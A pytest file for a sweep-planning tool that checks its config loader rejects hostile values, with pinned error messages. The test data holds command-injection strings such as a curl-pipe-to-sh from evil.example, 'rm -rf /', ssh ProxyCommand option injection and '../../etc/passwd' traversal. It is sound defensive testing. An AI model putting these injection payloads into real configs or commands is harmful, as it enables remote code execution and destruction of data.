"""Hostile values in otherwise valid sweep files: each file in tests/fixtures/hostile_inputs/values has one
defect (a config key that cannot be a DAG id, a value that cannot be a DAG tag, a cron that never fires, an
absurd size, an unknown framework, an image reference with shell syntax, a path that climbs out of its folder,
an eval bound) and is pinned to its full message list, in the format of tests/config/test_bad_configs.py.

Every one is refused by the loader (`infersweep plan FILE` exits non-zero, with no traceback, in well under
10 s), never at run time or inside Airflow. The rules live in `infersweep.config.names` and the schema
validators; the unit tests below also prove that the real InferenceX master files still pass them.
"""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from infersweep.config import names
from infersweep.config.errors import ConfigError
from infersweep.config.settings import check_schedule
from infersweep.config.sweep import load_sweep

CORPUS = Path(__file__).resolve().parents[1] / "fixtures" / "hostile_inputs" / "values"
CLI = Path(sys.executable).with_name("infersweep")
SCOPE = "bad-key: scenarios.fixed-seq-len[0].search-space[0]"
IMAGE_FIX = " (allowed: [registry[:port]/]path[:tag][@sha256:digest] with a lowercase path and no spaces or shell characters, e.g. vllm/vllm-openai:v0.11.0)"
MODEL_FIX = " (allowed: a Hugging Face repo id org/name (letters, digits, '-', '_', '.'), or an absolute local path without '..', spaces or shell characters)"
KEY_FIX = " (allowed: letters, digits, '-', '_' and '.', at most 250 characters (an Airflow DAG id))"
URL_FIX = " (allowed: unix:///var/run/docker.sock, ssh://user@host or tcp://host:2376, without spaces, shell characters or '..')"
PATH_FIX = " (allowed: an absolute path on the node without '..', spaces or shell characters, e.g. /mnt/hf)"
NODE_FIX = " (allowed: a hostname-like name: letters, digits, '-', '_', '.', starting with a letter or digit, at most 200 characters, e.g. h200-cw-00)"
FRAMEWORKS = "atom, atom-disagg, dynamo-sglang, dynamo-trt, dynamo-vllm, llmd-vllm, sglang, sglang-disagg, tilert, trt, vllm, vllm-disagg"

#: The valid sweep every corpus file is a one-defect copy of (tests/fixtures/bad_configs/tp_not_power_of_two.yaml's
#: shape, with a valid tp).
BASE = """sweep: hostile
entries:
  bad-key:
    image: vllm/vllm-openai:v0.11.0
    model: meta-llama/Llama-3.1-8B-Instruct
    model-prefix: llama3.1-8b
    runner: h100
    precision: bf16
    framework: vllm
    multinode: false
    scenarios:
      fixed-seq-len:
      - isl: 1024
        osl: 1024
        search-space:
        - { tp: 8, conc-start: 1, conc-end: 8 }
"""

EXPECTED: dict[str, list[str]] = {
    "bench_prompts_huge.yaml": [
        'bench_prompts_huge.yaml:2: bench.prompts-per-conc: must be at most 1,000, got 1000000: the benchmark sends this many prompts per unit of concurrency (InferenceX: 10) (allowed: a value <= 1,000)',
    ],
    "conc_end_huge.yaml": [
        f'conc_end_huge.yaml:16: {SCOPE}.conc-end: must be at most 65,536, got 1000000000: one client host cannot hold more connections open (65,536 ports) (allowed: a value <= 65,536)',
    ],
    "conc_list_huge_value.yaml": [
        f'conc_list_huge_value.yaml:16: {SCOPE}.conc-list[1]: must be at most 65,536, got 1000000000: one client host cannot hold more connections open (65,536 ports) (allowed: a value <= 65,536)',
    ],
    "conc_list_too_long.yaml": [
        f'conc_list_too_long.yaml:16: {SCOPE}: conc-list has 257 values, more than 256: each concurrency is a benchmark run of its own (allowed: at most 256 values, or conc-start/conc-end for a doubling range)',
    ],
    "docker_url_option_host.yaml": [
        f"docker_url_option_host.yaml:19: inventory.h100[0].docker-url: docker-url 'ssh://-oProxyCommand=id' has a host starting with '-' (ssh would read it as an option){URL_FIX}",
    ],
    "docker_url_shell.yaml": [
        f"docker_url_shell.yaml:19: inventory.h100[0].docker-url: docker-url 'ssh://ops@h100-0;reboot' contains ';' (shell syntax){URL_FIX}",
    ],
    "docker_url_traversal.yaml": [
        f"docker_url_traversal.yaml:19: inventory.h100[0].docker-url: docker-url 'unix:///var/run/../../etc/docker.sock' has a '..' segment (it would climb out of its folder){URL_FIX}",
    ],
    "eval_fewshot_huge.yaml": [
        "eval_fewshot_huge.yaml:2: eval.num-fewshot: must be at most 64, got 1000: each shot adds ~150 tokens to every prompt, and 64 already fill the ~10k-token context of the 8k1k servers evaluated (lm-eval's gsm8k default is 5) (allowed: a value <= 64)",
    ],
    "eval_fewshot_negative.yaml": [
        'eval_fewshot_negative.yaml:2: eval.num-fewshot: must be at least 0, got -1 (allowed: a value >= 0)',
    ],
    "eval_limit_zero.yaml": [
        'eval_limit_zero.yaml:2: eval.limit: must be greater than 0, got 0 (allowed: a value > 0)',
    ],
    "eval_threshold_negative.yaml": [
        'eval_threshold_negative.yaml:2: eval.default-threshold: must be at least 0.0, got -0.1 (allowed: a value >= 0.0)',
    ],
    "eval_thresholds_above_one.yaml": [
        'eval_thresholds_above_one.yaml:2: eval.thresholds.default.gsm8k: must be at most 1.0, got 1.5 (allowed: a value <= 1.0)',
    ],
    "framework_typo.yaml": [
        f"framework_typo.yaml:9: bad-key: framework: framework 'vlm' is not an InferenceX framework (allowed: did you mean 'vllm'? {FRAMEWORKS})",
    ],
    "framework_unknown.yaml": [
        f"framework_unknown.yaml:9: bad-key: framework: framework 'tensorflow' is not an InferenceX framework (allowed: {FRAMEWORKS})",
    ],
    "hf_home_relative.yaml": [
        f"hf_home_relative.yaml:19: inventory.h100[0].hf-home: hf-home 'hf-cache' is not an absolute path (Docker bind-mounts only absolute paths){PATH_FIX}",
    ],
    "hf_home_shell.yaml": [
        f"hf_home_shell.yaml:19: inventory.h100[0].hf-home: hf-home '/mnt/hf;rm -rf /' contains ';' (shell syntax){PATH_FIX}",
    ],
    "hf_home_traversal.yaml": [
        f"hf_home_traversal.yaml:19: inventory.h100[0].hf-home: hf-home '/mnt/hf/../../etc' has a '..' segment (it would climb out of its folder){PATH_FIX}",
    ],
    "image_bad_digest.yaml": [
        f"image_bad_digest.yaml:4: bad-key: image: image 'vllm/vllm-openai@sha256:abc' is not a Docker image reference: it has a malformed digest (a digest is sha256: and 64 hex digits){IMAGE_FIX}",
    ],
    "image_bad_tag.yaml": [
        f"image_bad_tag.yaml:4: bad-key: image: image 'vllm/vllm-openai:-latest' is not a Docker image reference: it has the tag '-latest'; a tag starts with a letter, digit or '_', followed by those, '.' or '-'{IMAGE_FIX}",
    ],
    "image_command_substitution.yaml": [
        f"image_command_substitution.yaml:4: bad-key: image: image '$(curl -s evil.example | sh)' is not a Docker image reference: it contains '$' (shell syntax){IMAGE_FIX}",
    ],
    "image_history_backtick.yaml": [
        f"image_history_backtick.yaml:2: image-history: image 'vllm/vllm-openai:`id`' for 2026-06-12 is not a Docker image reference: it contains '`' (shell syntax){IMAGE_FIX}",
    ],
    "image_newline.yaml": [
        f"image_newline.yaml:4: bad-key: image: image 'vllm/vllm-openai:v1\\nreboot' is not a Docker image reference: it contains a line break{IMAGE_FIX}",
    ],
    "image_pattern_injection.yaml": [
        "image_pattern_injection.yaml:2: image-tag-pattern: image-tag-pattern renders 'vllm/vllm-openai:nightly-20260101 && id', which is not a Docker image reference: it contains a space (allowed: a pattern like vllm/vllm-openai:nightly-{{ ds_nodash }})",
    ],
    "image_shell_injection.yaml": [
        f"image_shell_injection.yaml:4: bad-key: image: image 'vllm/vllm-openai:v1; rm -rf /' is not a Docker image reference: it contains ';' (shell syntax){IMAGE_FIX}",
    ],
    "image_uppercase_path.yaml": [
        f"image_uppercase_path.yaml:4: bad-key: image: image 'ghcr.io/VLLM/vllm-openai:v1' is not a Docker image reference: it has upper-case letters in its repository path (Docker repository paths are lowercase){IMAGE_FIX}",
    ],
    "isl_huge.yaml": [
        "isl_huge.yaml:13: bad-key: scenarios.fixed-seq-len[0].isl: must be at most 10,000,000, got 100000000: longer than any model's context window (the longest are 10M tokens) (allowed: a value <= 10,000,000)",
    ],
    "key_empty.yaml": [
        f"key_empty.yaml:3: '': config key cannot be an Airflow DAG id: it is empty{KEY_FIX}",
    ],
    "key_glob.yaml": [
        f"key_glob.yaml:3: 'bad-*': config key cannot be an Airflow DAG id: it contains '*' (shell syntax){KEY_FIX}",
    ],
    "key_non_ascii.yaml": [
        f"key_non_ascii.yaml:3: 'b\\xe4d-key': config key cannot be an Airflow DAG id: it contains the non-ASCII character U+00E4{KEY_FIX}",
    ],
    "key_shell.yaml": [
        f"key_shell.yaml:3: 'bad-key;reboot': config key cannot be an Airflow DAG id: it contains ';' (shell syntax){KEY_FIX}",
    ],
    "key_too_long.yaml": [
        f"key_too_long.yaml:3: 'kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk'...: config key cannot be an Airflow DAG id: it is 251 characters long, more than 250{KEY_FIX}",
    ],
    "key_with_space.yaml": [
        f"key_with_space.yaml:3: 'bad key': config key cannot be an Airflow DAG id: it contains a space{KEY_FIX}",
    ],
    "model_absolute_traversal.yaml": [
        f"model_absolute_traversal.yaml:5: bad-key: model: model '/models/../../etc' has a '..' segment (it would climb out of its folder){MODEL_FIX}",
    ],
    "model_prefix_non_ascii.yaml": [
        "model_prefix_non_ascii.yaml:6: bad-key: model-prefix: model-prefix 'llam\\xe43' cannot be an Airflow DAG tag: it contains the non-ASCII character U+00E4 (allowed: letters, digits, '-', '_', '.', ':', starting with a letter or digit, at most 100 characters (an Airflow DAG tag), e.g. dsr1, gptoss, minimaxm3)",
    ],
    "model_prefix_space.yaml": [
        "model_prefix_space.yaml:6: bad-key: model-prefix: model-prefix 'llama 3.1' cannot be an Airflow DAG tag: it contains a space (allowed: letters, digits, '-', '_', '.', ':', starting with a letter or digit, at most 100 characters (an Airflow DAG tag), e.g. dsr1, gptoss, minimaxm3)",
    ],
    "model_prefix_too_long.yaml": [
        "model_prefix_too_long.yaml:6: bad-key: model-prefix: model-prefix 'mmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmm'... cannot be an Airflow DAG tag: it is 101 characters long, more than 100 (allowed: letters, digits, '-', '_', '.', ':', starting with a letter or digit, at most 100 characters (an Airflow DAG tag), e.g. dsr1, gptoss, minimaxm3)",
    ],
    "model_shell.yaml": [
        f"model_shell.yaml:5: bad-key: model: model 'org/model;reboot' contains ';' (shell syntax){MODEL_FIX}",
    ],
    "model_space.yaml": [
        f"model_space.yaml:5: bad-key: model: model 'org/my model' contains a space{MODEL_FIX}",
    ],
    "model_three_parts.yaml": [
        f"model_three_parts.yaml:5: bad-key: model: model 'org/team/model' has 2 '/' separators: a Hugging Face repo id is org/name, and a local path must be absolute{MODEL_FIX}",
    ],
    "model_traversal.yaml": [
        f"model_traversal.yaml:5: bad-key: model: model '../../etc/passwd' has a '..' segment (it would climb out of its folder){MODEL_FIX}",
    ],
    "node_gpus_huge.yaml": [
        'node_gpus_huge.yaml:19: inventory.h100[0].gpus: must be at most 1,024, got 100000: no node holds that many GPUs (allowed: a value <= 1,024)',
    ],
    "node_name_shell.yaml": [
        f"node_name_shell.yaml:19: inventory.h100[0].name: node name 'n0$(reboot)' contains '$' (shell syntax){NODE_FIX}",
    ],
    "node_name_traversal.yaml": [
        f"node_name_traversal.yaml:19: inventory.h100[0].name: node name '../../etc' is a path ('/' or '..'), not a name{NODE_FIX}",
    ],
    "pp_huge.yaml": [
        f'pp_huge.yaml:16: {SCOPE}.pp: must be at most 1,024, got 2048: a parallel size counts GPUs, and the largest GPU domain sold today has 576 (allowed: a value <= 1,024)',
    ],
    "precision_too_long.yaml": [
        "precision_too_long.yaml:8: bad-key: precision: precision 'bf16-with-extra-words' cannot be an Airflow DAG tag: it is 21 characters long, more than 20 (allowed: letters, digits, '-', '_', '.', ':', starting with a letter or digit, at most 20 characters (an Airflow DAG tag), e.g. fp4, fp8, bf16)",
    ],
    "runner_space.yaml": [
        "runner_space.yaml:7: bad-key: runner: runner 'h100 gpu' cannot be an Airflow DAG tag: it contains a space (allowed: letters, digits, '-', '_', '.', ':', starting with a letter or digit, at most 100 characters (an Airflow DAG tag), e.g. h200, cluster:b300-nv)",
    ],
    "schedule_never_fires.yaml": [
        "schedule_never_fires.yaml:2: schedule: '0 2 31 2 *' never fires: no date in the next 8 years matches it (a day that does not exist in its month, like 31 February?) (allowed: a schedule that fires, e.g. '0 2 * * *' or '0 2 28 2 *', or null for manual runs)",
    ],
    "schedule_out_of_range.yaml": [
        "schedule_out_of_range.yaml:2: schedule: '61 25 * * *' is not a valid cron schedule: its minute field '61' is out of range or malformed (allowed: minute values 0-59 (with * , - /), or null for manual runs)",
    ],
    "schedule_zero_step.yaml": [
        "schedule_zero_step.yaml:2: schedule: '*/0 * * * *' is not a valid cron schedule: its minute field '*/0' is out of range or malformed (allowed: minute values 0-59 (with * , - /), or null for manual runs)",
    ],
    "tp_huge.yaml": [
        f'tp_huge.yaml:16: {SCOPE}.tp: must be at most 1,024, got 1180591620717411303424: a parallel size counts GPUs, and the largest GPU domain sold today has 576 (allowed: a value <= 1,024)',
    ],
    "tp_larger_than_inventory_node.yaml": [
        f"tp_larger_than_inventory_node.yaml:16: {SCOPE}.tp: tp x pp x pcp-size = 8 GPUs, more than the 4 GPUs of inventory node 'h100-0', the smallest of runner 'h100' (allowed: a layout of at most 4 GPUs, nodes with more gpus under inventory: h100, or multinode: true)",
    ],
}


def corpus_files() -> list[str]:
    return sorted(p.name for p in CORPUS.glob("*.yaml"))


def test_corpus_is_complete() -> None:
    """Every hostile file has pinned messages, and at least 30 exist."""
    assert set(corpus_files()) == set(EXPECTED)
    assert len(EXPECTED) >= 30


def test_base_is_valid(tmp_path: Path) -> None:
    """The sweep the corpus files copy loads, so each file fails for its own defect only."""
    (tmp_path / "base.yaml").write_text(BASE)
    assert set(load_sweep([tmp_path / "base.yaml"]).entries) == {"bad-key"}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_hostile_value_message(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each file fails at load time with exactly its pinned issues: file:line, key path, problem, fix."""
    monkeypatch.chdir(CORPUS)
    with pytest.raises(ConfigError) as info:
        load_sweep([Path(name)])
    got = [str(issue) for issue in info.value.issues]
    assert got == EXPECTED[name]
    for issue in info.value.issues:
        assert issue.file == name and isinstance(issue.line, int) and issue.line >= 1, issue
        assert issue.config_key or issue.field_path, issue
        assert issue.allowed, f"no fix given: {issue}"
        # Values are quoted short and escaped: no line breaks, no runaway echo of a long value.
        assert "\n" not in str(issue) and len(str(issue)) < 600, issue


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_plan_refuses_without_traceback(name: str) -> None:
    """`infersweep plan FILE` exits non-zero, prints the message and no traceback, in well under 10 s."""
    started = time.monotonic()
    proc = subprocess.run([str(CLI), "plan", name], cwd=CORPUS, capture_output=True, text=True, timeout=60)
    elapsed = time.monotonic() - started
    output = proc.stdout + proc.stderr
    assert proc.returncode != 0, output
    assert "Traceback" not in output, output
    assert EXPECTED[name][0] in output, output
    assert elapsed < 10, f"{name}: refused after {elapsed:.1f} s"


def test_tp_fits_the_smallest_inventory_node(tmp_path: Path) -> None:
    """A layout that fits the smallest node of its label loads; the node-fit check looks at every node."""
    fits = BASE.replace("tp: 8,", "tp: 4,") + "inventory:\n  h100:\n  - { name: a, gpus: 8 }\n  - { name: b, gpus: 4 }\n"
    (tmp_path / "fits.yaml").write_text(fits)
    assert set(load_sweep([tmp_path / "fits.yaml"]).entries) == {"bad-key"}
    (tmp_path / "big.yaml").write_text(fits.replace("tp: 4,", "tp: 8,"))
    with pytest.raises(ConfigError, match="more than the 4 GPUs of inventory node 'b'"):
        load_sweep([tmp_path / "big.yaml"])


def test_empty_inventory_label_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "empty.yaml").write_text(BASE + "inventory:\n  h100: []\n")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError) as info:
        load_sweep(["empty.yaml"])
    line = len(BASE.splitlines()) + 2
    assert [str(i) for i in info.value.issues] == [
        f"empty.yaml:{line}: inventory.h100: runner label 'h100' has no nodes "
        "(allowed: at least one node, e.g. h100: [{name: h100-0, gpus: 8}], or drop the label)"]


# -- the rules on their own ---------------------------------------------------------------------------------------
def _master_entries(folder: Path) -> dict[str, dict[str, object]]:
    entries: dict[str, dict[str, object]] = {}
    for name in ("nvidia-master.yaml", "amd-master.yaml"):
        entries.update(yaml.safe_load((folder / name).read_text()))
    return entries


@pytest.mark.parametrize("which", ["inferencex_dir", "inferencex_today_dir"])
def test_every_inferencex_value_passes_the_rules(which: str, request: pytest.FixtureRequest) -> None:
    """Every config key, tag, framework, image and model of the real master files is accepted."""
    entries = _master_entries(request.getfixturevalue(which))
    assert entries
    for key, entry in entries.items():
        assert names.check_dag_id(key) is None, key
        for field in ("model-prefix", "runner", "precision"):
            assert names.check_tag(str(entry[field])) is None, (key, field, entry[field])
        assert names.check_tag(str(entry["precision"]), names.PRECISION_MAX) is None, key
        assert names.check_framework(str(entry["framework"])) is None, (key, entry["framework"])
        image = str(entry["image"])
        assert names.check_image(image) is None and names.image_is_pinned(image), (key, image)
        assert names.check_model(str(entry["model"])) is None, (key, entry["model"])


@pytest.mark.parametrize("ref", [
    "vllm/vllm-openai:v0.11.0", "vllm-cpu:0.32.0", "localhost:5000/team/img:1", "[::1]:5000/x:1",
    "lmsysorg/sglang:v0.5.14-cu130@sha256:" + "a" * 64, "x/y@sha256:" + "0" * 64,
    "nvcr.io#nvidia/tensorrt-llm/release:1.3.0rc24",  # enroot/pyxis form, as InferenceX's Slurm runners write it
])
def test_image_references_accepted(ref: str) -> None:
    assert names.check_image(ref) is None and names.image_is_pinned(ref)


@pytest.mark.parametrize(("ref", "problem"), [
    ("", "is empty"),
    ("a/b:1 ; id", "contains a space"),
    ("a/b:1|id", "contains '|' (shell syntax)"),
    ("a/b:" + "t" * 129, "has a tag longer than 128 characters"),
    ("a/B:1", "has upper-case letters in its repository path (Docker repository paths are lowercase)"),
    ("a//b:1", "does not follow Docker's reference grammar"),
    ("a/b:1:2", "does not follow Docker's reference grammar"),
    ("a/b:.x", "has the tag '.x'; a tag starts with a letter, digit or '_', followed by those, '.' or '-'"),
    ("a/b@sha256:abc", "has a malformed digest (a digest is sha256: and 64 hex digits)"),
    ("bad_host#x:1", "has '#' after 'bad_host', which is not a registry host (enroot form: registry#path:tag)"),
    ("a" * 501, "is 501 characters long, more than 500"),
])
def test_image_references_refused(ref: str, problem: str) -> None:
    assert names.check_image(ref) == problem


def test_untagged_valid_reference_keeps_the_append_a_tag_hint_and_invalid_ones_do_not(tmp_path: Path) -> None:
    """Only a valid reference is told to append `:<tag>`; an injection string is not (issue 16)."""
    for image, hint in (("vllm/vllm-openai", "vllm/vllm-openai:<tag>"), ("x;id", None)):
        (tmp_path / "s.yaml").write_text(BASE.replace("vllm/vllm-openai:v0.11.0", f"'{image}'"))
        with pytest.raises(ConfigError) as info:
            load_sweep([tmp_path / "s.yaml"])
        text = str(info.value)
        assert (hint in text) if hint else (":<tag>" not in text and "is not a Docker image reference" in text)


@pytest.mark.parametrize(("model", "ok"), [
    ("meta-llama/Llama-3.1-8B-Instruct", True), ("deepseek-r1-fp4", True), ("/models/smollm2", True),
    ("/mnt/models/org--name/snapshots/abc", True), ("org/", False), ("-org/x", False), ("org/x.", False),
    ("org/a--b", False), ("./model", False), ("~/models/x", False), ("/models/./x", False), ("org/x\ny", False),
])
def test_model_ids(model: str, ok: bool) -> None:
    assert (names.check_model(model) is None) is ok, names.check_model(model)


@pytest.mark.parametrize(("url", "ok"), [
    ("unix:///var/run/docker.sock", True), ("ssh://ops@h200-0", True), ("tcp://10.0.0.5:2376", True),
    ("npipe:////./pipe/docker_engine", True), ("ssh://ops@-oProxyCommand=x", False), ("tcp://", False),
    ("ssh://h$(id)", False), ("tcp://host:2376/../x", False),
])
def test_docker_urls(url: str, ok: bool) -> None:
    assert (names.check_docker_url(url) is None) is ok, names.check_docker_url(url)


@pytest.mark.parametrize("schedule", ["0 2 * * *", "0 2 29 2 *", "0 0 L * *", "0 6 * * MON-FRI", "@daily", None])
def test_schedules_that_fire_are_accepted(schedule: str | None) -> None:
    assert check_schedule(schedule) == schedule


def test_quote_escapes_and_cuts() -> None:
    assert names.quote("caf\u00e9") == "'caf\\xe9'"
    assert names.quote("x" * 100) == repr("x" * 60) + "..."
    assert names.short_int(2 ** 200).endswith("(61 digits)")
